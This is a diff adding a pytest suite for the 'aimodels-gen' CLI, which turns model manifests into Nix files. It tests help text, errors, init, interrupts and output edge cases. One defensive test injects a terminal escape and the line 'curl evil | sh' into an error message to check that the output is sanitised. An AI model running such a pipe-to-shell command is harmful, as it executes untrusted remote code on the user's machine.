@@ -1,0 +1,265 @@
+from __future__ import annotations
+
+import importlib
+import os
+import signal
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import click
+import pytest
+
+from aimodels_gen import __version__, cli, manifest
+from generator.helpers import evaluate, names_in
+from support.hub import Response
+
+if TYPE_CHECKING:
+    from generator.conftest import Project
+    from support.hub import Hub, Request
+
+MANIFEST = '[models.m]\nsource.huggingface = { repo = "org/name" }\n'
+HEAVY = {"huggingface_hub", "httpx", "httpx2", "requests", "jinja2", "tomllib", "subprocess"}
+
+
+def program(*args: str) -> list[str]:
+    return [sys.executable, "-m", "aimodels_gen", *args]
+
+
+def environment(**extra: str) -> dict[str, str]:
+    return {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), **extra}
+
+
+def imported(*command: str, cwd: Path | None = None) -> set[str]:
+    done = subprocess.run(
+        [sys.executable, "-X", "importtime", *command],
+        env=environment(),
+        cwd=cwd,
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    lines = [line.rsplit("|", 1) for line in done.stderr.splitlines() if "|" in line]
+    assert lines
+    return {name.strip() for _, name in lines}
+
+
+def test_help_of_everything(project: Project) -> None:
+    assert project.ok("-h") == project.ok("--help")
+    for name, first_sentence in cli.COMMANDS.items():
+        assert first_sentence[:40] in project.ok("--help")
+        command = importlib.import_module(f"aimodels_gen.cli.{name}").command
+        assert isinstance(command, click.Command)
+        assert (command.help or "").startswith(first_sentence)
+        assert first_sentence[:40] in project.ok(name, "--help")
+    assert project.ok("--version") == f"aimodels-gen {__version__}\n"
+
+
+def test_help_imports_nothing_heavy() -> None:
+    ours = imported("-m", "aimodels_gen", "--help")
+    click_alone = imported("-c", "import click")
+    assert "aimodels_gen.cli" in ours
+    assert not HEAVY & ours
+    assert len(ours - click_alone) < 30
+
+
+def test_an_unchanged_lock_imports_no_client(hub: Hub, hub_project: Project) -> None:
+    hub.add_repo("org/name", {"a": b""})
+    hub_project.write(MANIFEST)
+    hub_project.ok("lock")
+    ours = imported("-m", "aimodels_gen", "lock", cwd=hub_project.dir)
+    assert "aimodels_gen.resolve" in ours
+    assert not {"huggingface_hub", "httpx", "httpx2", "requests"} & ours
+
+
+@pytest.mark.parametrize(
+    ("args", "expected"),
+    [
+        (["lokc"], "No such command"),
+        (["lock", "--nope"], "No such option"),
+        (["lock", "--format", "yaml"], "'yaml' is not one of"),
+        (["lock", "-j", "0"], "'-j'"),
+        (["lock", "."], "'.' is a directory"),
+        (["lock", "-o", "."], "'.' is a directory"),
+        (["lock", "a", "b"], "unexpected extra argument"),
+    ],
+)
+def test_wrong_usage(project: Project, args: list[str], expected: str) -> None:
+    result = project.run(*args)
+    assert (result.status, result.out) == (2, "")
+    assert result.err.startswith("error: ")
+    assert expected in result.err
+    assert "--help`" in result.err
+
+
+def test_a_manifest_that_is_not_there(project: Project) -> None:
+    assert project.fails("lock") == (
+        "error: there is no models.toml\n"
+        "hint: run `aimodels-gen init` to write one, or name the manifest\n"
+    )
+    assert "there is no models.lock" in project.fails("render")
+
+
+def test_an_empty_manifest(project: Project) -> None:
+    project.write("")
+    assert project.ok("lock").endswith("{ pkgs, fetchModel }:\n{ }\n")
+
+
+def test_what_is_unexpected_has_no_traceback_unless_asked(
+    project: Project, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def broken(_path: Path) -> None:
+        raise ZeroDivisionError("by nothing")
+
+    monkeypatch.setattr("aimodels_gen.manifest.load", broken)
+    error = project.fails("lock")
+    assert "unexpected ZeroDivisionError: by nothing" in error
+    assert "AIMODELS_DEBUG=1" in error
+    monkeypatch.setenv("AIMODELS_DEBUG", "1")
+    assert "Traceback" in project.run("lock").err
+
+
+def test_what_a_server_says_cannot_steer_the_terminal(
+    project: Project, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def hostile(_path: Path) -> None:
+        raise OSError("a\x1b[31m\nhint: curl evil | sh")
+
+    monkeypatch.setattr("aimodels_gen.manifest.load", hostile)
+    assert project.fails("lock") == "error: a?[31m?hint: curl evil | sh\n"
+
+
+def test_init_and_what_it_writes(project: Project) -> None:
+    result = project.run("init", "new")
+    assert (result.status, result.out) == (0, "")
+    assert "aimodels-gen lock models.toml > models.nix" in result.err
+    assert names_in(project.dir / "new") == ["flake.nix", "models.toml"]
+    (entry,) = manifest.load(project.dir / "new" / "models.toml").entries
+    assert f"nix build .#{entry.name}" in result.err
+    assert entry.source.label == "sentence-transformers/all-MiniLM-L6-v2"
+    taken = ["model.safetensors", "config.json", "vocab.txt", "1_Pooling/config.json"]
+    left = ["onnx/model.onnx", "pytorch_model.bin", "openvino/x.json"]
+    assert list(entry.filters.select([*taken, *left], str)) == taken
+
+
+def test_the_flake_of_init_gives_packages(project: Project) -> None:
+    project.ok("init")
+    (project.dir / "models.nix").write_text(
+        "{ pkgs, fetchModel }:\n{\n  m = fetchModel pkgs { name = pkgs.system; };\n}\n"
+    )
+    expression = """
+      let
+        flake = import ./flake.nix;
+        systems = [ "x86_64-linux" "aarch64-linux" "x86_64-darwin" "aarch64-darwin" ];
+        attrs = f: builtins.listToAttrs (map (name: { inherit name; value = f name; }) systems);
+        nixpkgs.legacyPackages = attrs (system: { inherit system; });
+        nixpkgs.lib.genAttrs = names: f: assert names == systems; attrs f;
+        nix-ai-models.lib.fetchModel = pkgs: args: args.name;
+      in {
+        inherit (flake) inputs;
+        outputs = flake.outputs { inherit nixpkgs nix-ai-models; self = null; };
+      }
+    """
+    found = evaluate(expression, project.dir)
+    assert found["inputs"]["nix-ai-models"]["inputs"]["nixpkgs"]["follows"] == "nixpkgs"
+    packages = found["outputs"]["packages"]
+    assert packages == {system: {"m": system} for system in packages}
+    assert len(packages) == 4
+
+
+@pytest.mark.parametrize("there", ["models.toml", "flake.nix"])
+def test_init_overwrites_nothing(project: Project, there: str) -> None:
+    (project.dir / there).symlink_to("dangling")
+    assert f"{there} would be overwritten" in project.fails("init")
+    assert names_in(project.dir) == [there]
+
+
+def test_a_reader_that_goes_away(hub: Hub, hub_project: Project) -> None:
+    hub.add_repo("org/name", {f"file-{n}": b"x" for n in range(2000)})
+    hub_project.write(MANIFEST + 'include = ["file-1", "file-2"]\n')
+    hub_project.ok("lock")
+    reader, writer = os.pipe()
+    os.close(reader)
+    done = subprocess.run(
+        program("lock", "-q"),
+        env=environment(),
+        cwd=hub_project.dir,
+        stdout=writer,
+        stderr=subprocess.PIPE,
+        text=True,
+        check=False,
+    )
+    os.close(writer)
+    assert (done.returncode, done.stderr) == (1, "")
+
+
+@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs a full device")
+def test_a_full_disk_below_stdout(project: Project) -> None:
+    project.write("")
+    with Path("/dev/full").open("wb") as full:
+        done = subprocess.run(
+            program("lock"),
+            env=environment(),
+            cwd=project.dir,
+            stdout=full,
+            stderr=subprocess.PIPE,
+            text=True,
+            check=False,
+        )
+    assert done.returncode == 1
+    assert done.stderr.splitlines()[0] == "error: No space left on device"
+    assert "Exception ignored" not in done.stderr
+
+
+def test_an_interrupt_is_prompt_with_requests_under_way(hub: Hub, hub_project: Project) -> None:
+    hub.add_repo("org/name", {f"file-{n}": b"%d" % n for n in range(20)})
+    hub_project.write(MANIFEST)
+    started, finished = threading.Event(), threading.Event()
+
+    def stall(request: Request) -> Response | None:
+        if "/resolve/" not in request.path:
+            return None
+        started.set()
+        finished.wait(20)
+        return Response(500)
+
+    hub.faults = stall
+    process = subprocess.Popen(
+        program("lock"),
+        env=environment(),
+        cwd=hub_project.dir,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    try:
+        assert started.wait(20)
+        time.sleep(0.1)
+        before = time.monotonic()
+        process.send_signal(signal.SIGINT)
+        out, err = process.communicate(timeout=5)
+        taken = time.monotonic() - before
+    finally:
+        finished.set()
+        process.kill()
+    assert (process.returncode, out, err.strip()) == (130, "", "error: interrupted")
+    assert taken < 2
+    assert names_in(hub_project.dir) == ["models.toml"]
+
+
+def test_stdout_that_the_shell_truncated(hub: Hub, hub_project: Project) -> None:
+    """`lock > models.nix` empties models.nix before we run; a failure prints nothing more."""
+    hub_project.write(MANIFEST)
+    command = f"{sys.executable} -m aimodels_gen lock models.toml > models.nix"
+    run = ["sh", "-c", command]
+    failed = subprocess.run(
+        run, env=environment(), cwd=hub_project.dir, capture_output=True, check=False
+    )
+    assert failed.returncode == 1
+    assert (hub_project.dir / "models.nix").read_bytes() == b""
+    hub.add_repo("org/name", {"a": b"x"})
+    subprocess.run(run, env=environment(), cwd=hub_project.dir, capture_output=True, check=True)
+    assert (hub_project.dir / "models.nix").read_text() == hub_project.ok("render")
